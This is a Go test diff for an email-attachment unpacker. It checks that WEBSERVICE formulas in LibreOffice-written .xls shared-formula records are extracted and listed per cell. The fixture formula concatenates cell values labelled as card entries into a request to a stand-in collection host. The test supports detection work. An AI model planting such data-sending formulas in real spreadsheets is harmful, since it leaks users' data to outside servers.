@@ -1,6 +1,8 @@
 package unpack
 
 import (
+	"bytes"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -275,5 +277,36 @@ func TestXLSWebFormulasWrittenByLibreOffice(t *testing.T) {
 		"Rates!R4C1: =_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"https://feed.example.net/a.xml\"),\"//title\")\n"
 	if got := string(mustPart(t, m, "2/rates.xls/web-formulas").Content); got != want {
 		t.Errorf("web-formulas =\n%s\nwant\n%s", got, want)
+	}
+}
+
+// Shared formulas as LibreOffice writes a column of like formulas to an
+// .xls (a SHRFMLA after the first cell, each cell a ptgExp pointing at it,
+// relative references as offsets, ptgRefN and ptgAreaN): each cell's
+// formula is listed with its own references.
+func TestXLSSharedFormulasWrittenByLibreOffice(t *testing.T) {
+	var rows strings.Builder
+	for r := 1; r <= 4; r++ {
+		fmt.Fprintf(&rows, `<table:table-row><table:table-cell office:value-type="string"><text:p>card%d</text:p></table:table-cell>`+
+			`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://collect.example.net/c?n=&quot;&amp;[.A%d]&amp;SUM([.C%d:.D%d])&amp;[.$A$1])" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
+			`<table:table-cell office:value-type="float" office:value="%d"><text:p>%d</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>`, r, r, r, r, r, r)
+	}
+	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Order">`+rows.String()+`</table:table></office:spreadsheet></office:body>`)
+	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"order.fods": []byte(fods)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	xls := out["order.fods"]
+	if !bytes.Contains(xls, []byte{0xBC, 0x04}) {
+		t.Fatalf("LibreOffice wrote no SHRFMLA record")
+	}
+	m := mail("order", "see attached", "order.xls", xls)
+	expand(t, m, Options{})
+	got := string(mustPart(t, m, "2/order.xls/web-formulas").Content)
+	for r := 1; r <= 4; r++ {
+		want := fmt.Sprintf("Order!R%dC2: =_xlfn.WEBSERVICE(\"https://collect.example.net/c?n=\"&R%dC1&SUM(R%dC3:R%dC4)&R1C1)\n", r, r, r, r)
+		if !strings.Contains(got, want) {
+			t.Errorf("web-formulas lacks\n%s\nhave\n%s", want, got)
+		}
 	}
 }
